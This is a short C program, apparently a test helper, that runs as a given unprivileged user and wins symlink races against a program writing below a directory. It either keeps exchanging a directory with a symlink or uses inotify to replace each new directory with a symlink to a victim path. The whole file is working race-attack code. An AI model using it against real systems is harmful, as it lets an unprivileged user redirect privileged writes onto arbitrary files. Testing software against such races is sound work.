/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * swapper parent|entry DIR VICTIM UID: as that user, tries to lead a program that writes below DIR
 * to VICTIM, until it is killed. parent: DIR/b is a directory at one moment and a symbolic link at
 * the next. entry: a symbolic link takes the place of each new directory in DIR.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static int swap_parent(int dir, const char *victim)
{
    if (mkdirat(dir, "b", 0755) != 0 || symlinkat(victim, dir, "link") != 0)
        return 1;
    for (;;)
        (void)renameat2(dir, "b", dir, "link", RENAME_EXCHANGE);
}

static int swap_entries(int dir, const char *path, const char *victim)
{
    int events = inotify_init1(IN_NONBLOCK);
    union {
        struct inotify_event event;
        char bytes[sizeof(struct inotify_event) + 256];
    } got;

    if (events < 0 || inotify_add_watch(events, path, IN_CREATE) < 0)
        return 1;
    for (unsigned int i = 0;; i++) {
        char away[32];

        if (read(events, &got, sizeof(got)) <= 0 || !(got.event.mask & IN_ISDIR))
            continue;
        (void)snprintf(away, sizeof(away), "away.%u", i);
        if (renameat(dir, got.event.name, dir, away) == 0)
            (void)!symlinkat(victim, dir, got.event.name);
    }
}

int main(int argc, char **argv)
{
    uid_t uid = argc == 5 ? (uid_t)strtonum(argv[4], 1, 65534, NULL) : 0;
    int dir = argc == 5 ? open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC) : -1;

    if (dir < 0 || uid == 0 || setresgid(uid, uid, uid) != 0 || setresuid(uid, uid, uid) != 0)
        return 1;
    return strcmp(argv[1], "parent") == 0 ? swap_parent(dir, argv[3])
                                          : swap_entries(dir, argv[2], argv[3]);
}
